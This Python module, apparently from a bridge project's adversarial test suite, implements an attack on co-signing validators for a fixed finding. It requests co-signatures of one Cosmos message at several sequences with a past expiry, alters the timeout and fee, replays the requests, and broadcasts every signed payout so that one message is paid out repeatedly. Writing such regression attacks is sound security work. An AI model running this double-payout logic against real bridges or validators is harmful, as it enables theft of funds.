"""Paying one Cosmos message out N times (issue 12, finding 1): the attacker, holding no key, asks every validator
to co-sign payouts of one attested message at vault sequences s, s+1, s+2 ... with ``expires_at`` in the past,
replays what it was given, alters the context (timeout height, fee, sequence), and assembles and broadcasts every
payout that got signatures.

Before the fix each request was co-signed (the validator judged "expired" from the request's own ``expires_at``)
and each transaction landed: one 5-token message paid four times. The attack reports what it was asked and given
and what the chain did with its broadcasts; the test reads the outcome from the chain.
"""

from __future__ import annotations

import asyncio
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx

from adapters.base import AdapterError, CosignRefused, CosignRequest, Height, MessageId
from tests.adversarial.attacker import AttackerContext

PAST = "1"  # unix time 1: "this earlier co-signature expired long ago", says the request


async def _wait_message_id(message_id: str | None, message_id_file: str | None, wait_s: float) -> str:
    if message_id is not None:
        return message_id
    if message_id_file is None:
        raise SystemExit("message_id or message_id_file is required")
    path, deadline = Path(message_id_file), time.monotonic() + wait_s
    while not path.exists() or not path.read_text().strip():
        if time.monotonic() > deadline:
            raise SystemExit(f"no message id in {path} within {wait_s}s")
        await asyncio.sleep(0.02)
    return path.read_text().strip()


async def _message_raw(ctx: AttackerContext, message_id: str, wait_s: float) -> tuple[bytes, str]:
    """The message's bytes and destination chain, read from an origin chain's recent Dispatch logs as soon as the
    dispatch is mined (public data; no daemon needed)."""
    names = {c.domain: n for n, c in ctx.settings.chains.items()}
    origins = [n for n, c in ctx.settings.chains.items() if c.family == "evm"]
    deadline = time.monotonic() + wait_s
    while time.monotonic() < deadline:
        for name in origins:
            adapter = ctx.adapters()[name]
            latest = int(await adapter.latest_height())
            for found in await adapter.fetch_dispatched(Height(max(0, latest - 100)), Height(latest)):
                if "0x" + bytes(found.id).hex() == message_id:
                    return bytes(found.raw), names[int(found.message.destination)]
        await asyncio.sleep(0.05)
    raise SystemExit(f"message {message_id} not dispatched within {wait_s}s")


def _altered(adapter: Any, request: CosignRequest, **changes: str) -> CosignRequest:
    """The same payout with other context values and the payload those values sign (the attacker runs the public
    code to re-encode it): as valid-looking as a relayer's request."""
    context = {**request.context, **changes}
    plan = adapter._plan_from_request(replace(request, context=context), CosignRefused)
    return replace(request, payload=plan.sign_bytes(), context=context)


class Asker:
    """POSTs co-sign requests to the validators' endpoints (signed as the attacker's own relayer identity when
    ``signed``: accepted only where a validator allow-listed it) and keeps what it was given."""

    def __init__(self, ctx: AttackerContext, headers: dict[str, str], signed: bool = False) -> None:
        self.ctx = ctx
        self.headers = headers
        self.auth = ctx.relayer_auth if signed else None
        self.asked: list[dict[str, Any]] = []
        self.signed: dict[bytes, tuple[CosignRequest, dict[str, tuple[str, bytes]]]] = {}

    async def ask(self, name: str, validator: dict[str, Any], request: CosignRequest, *,
                  keep: bool = True) -> dict[str, Any]:
        resp = await self.ctx.http.post(f"{validator['url'].rstrip('/')}/cosign", json=request.to_json(),
                                        headers=self.headers, auth=self.auth or httpx.USE_CLIENT_DEFAULT)
        if resp.status_code == 200:
            doc = resp.json()
            answer: dict[str, Any] = {"status": 200, "signer": doc["signer"]}
            entry = self.signed.setdefault(request.payload, (request, {}))
            entry[1][validator["address"]] = (str(doc["signer"]), bytes.fromhex(str(doc["signature"])))
        else:
            try:
                detail = resp.json().get("detail")
            except ValueError:
                detail = resp.text[:200]
            answer = {"status": resp.status_code, "reason": detail.get("reason") if isinstance(detail, dict) else None,
                      "detail": str(detail)[:300]}
        if keep:
            self.asked.append({"request": name, "validator": validator["address"],
                               "sequence": request.context["sequence"],
                               "timeout_height": request.context["timeout_height"], **answer})
        return answer


async def _broadcast(adapter: Any, request: CosignRequest, signatures: list[tuple[str, bytes]]) -> dict[str, Any]:
    try:
        submitted = await adapter.submit_cosigned(request, signatures)
    except AdapterError as exc:
        return {"broadcast": "refused", "reason": exc.reason[:200]}
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:  # the chain's verdict on it
        outcome = await adapter.confirm(submitted)
        if outcome.state.value != "pending":
            return {"broadcast": "accepted", "tx": submitted.tx_hash, "state": outcome.state.value,
                    "reason": outcome.reason[:200]}
        await asyncio.sleep(0.2)
    return {"broadcast": "accepted", "tx": submitted.tx_hash, "state": "pending"}


async def pay_one_message_many_times(
    ctx: AttackerContext,
    message_id: str | None = None,
    message_id_file: str | None = None,
    sequence_offsets: list[int] | None = None,
    expires_at: str = PAST,
    validators: list[str] | None = None,
    alter: bool = True,
    replay: bool = True,
    broadcast: bool = True,
    headers: dict[str, str] | None = None,
    signed: bool = False,
    wait_s: float = 120.0,
) -> dict[str, Any]:
    """Ask each validator (``validators``: addresses; default all) to co-sign payouts of ``message_id`` (or of the
    id written into ``message_id_file`` once known): first at the vault's sequence s, the moment the validators
    attested it, then at s + each of ``sequence_offsets`` (default 0, 1, 2), each with ``context["expires_at"] =
    expires_at``; with ``alter`` also another timeout height, one far ahead, one passed, none, another fee, the
    sequence before; with ``replay`` each request again. Every payload that got signatures is assembled and
    broadcast (``broadcast``), and a landed one broadcast again. ``headers``: sent with every request; ``signed``:
    requests signed as the attacker's own relayer identity (a malicious relayer the validators allow-listed: the
    once-rule must hold against any relayer)."""
    message_id = await _wait_message_id(message_id, message_id_file, wait_s)
    raw, chain = await _message_raw(ctx, message_id, wait_s)
    adapter = ctx.adapters()[chain]
    targets = [v for v in ctx.world["validators"] if validators is None or v["address"] in validators]
    offsets = [0, 1, 2] if sequence_offsets is None else list(sequence_offsets)
    asker = Asker(ctx, dict(headers or {}), signed)

    # first in line: one payload, asked of every validator until each has attested the message
    first = _altered(adapter, await adapter.cosign_request([raw]), expires_at=expires_at)
    pending = list(targets)
    deadline = time.monotonic() + wait_s
    while pending and time.monotonic() < deadline:
        answers = await asyncio.gather(*(asker.ask("first", v, first, keep=False) for v in pending))
        waiting = []
        for validator, answer in zip(pending, answers, strict=True):
            if answer.get("reason") == "not attested":
                waiting.append(validator)
            else:
                asker.asked.append({"request": "first", "validator": validator["address"],
                                    "sequence": first.context["sequence"],
                                    "timeout_height": first.context["timeout_height"], **answer})
        pending = waiting
        if pending:
            await asyncio.sleep(0.03)

    sequence, timeout = int(first.context["sequence"]), int(first.context["timeout_height"])
    requests: list[tuple[str, CosignRequest]] = [
        (f"sequence s+{offset}", _altered(adapter, first, sequence=str(sequence + offset))) for offset in offsets]
    if alter:
        requests += [
            ("timeout +1", _altered(adapter, first, timeout_height=str(timeout + 1))),
            ("timeout far ahead", _altered(adapter, first, timeout_height=str(timeout + 10**6))),
            ("timeout passed", _altered(adapter, first, timeout_height=str(max(1, timeout - 10**4)))),
            ("no timeout", _altered(adapter, first, timeout_height="0")),
            ("fee x2", _altered(adapter, first, fee_amount=str(2 * int(first.context["fee_amount"])))),
        ]
        if sequence > 0:  # a vault that never paid out has no sequence before
            requests.append(("sequence s-1", _altered(adapter, first, sequence=str(sequence - 1))))
    if replay:
        requests += [("replay of first", first)] + [(f"replay of {name}", r) for name, r in list(requests)]
    for name, request in requests:
        for validator in targets:
            await asker.ask(name, validator, request)

    broadcasts = []
    if broadcast:
        for request, by_validator in asker.signed.values():
            outcome = await _broadcast(adapter, request, list(by_validator.values()))
            broadcasts.append({"sequence": request.context["sequence"], "timeout_height":
                               request.context["timeout_height"], "signatures": len(by_validator), **outcome})
            if replay and outcome.get("broadcast") == "accepted":  # the very same transaction again
                again = await _broadcast(adapter, request, list(by_validator.values()))
                broadcasts.append({"sequence": request.context["sequence"], "replayed": True,
                                   "signatures": len(by_validator), **again})
    delivered = (await adapter.delivered([MessageId(bytes.fromhex(message_id[2:]))]))[0]
    return {
        "message_id": message_id, "chain": chain, "first_sequence": sequence, "first_timeout_height": timeout,
        "asked": asker.asked,
        "signed_payloads": [{"sequence": r.context["sequence"], "timeout_height": r.context["timeout_height"],
                             "fee": r.context["fee_amount"], "validators": sorted(v)}
                            for r, v in asker.signed.values()],
        "max_signed_timeout_height": max((int(r.context["timeout_height"]) for r, _v in asker.signed.values()),
                                         default=0),
        "broadcasts": broadcasts, "delivered": delivered,
    }
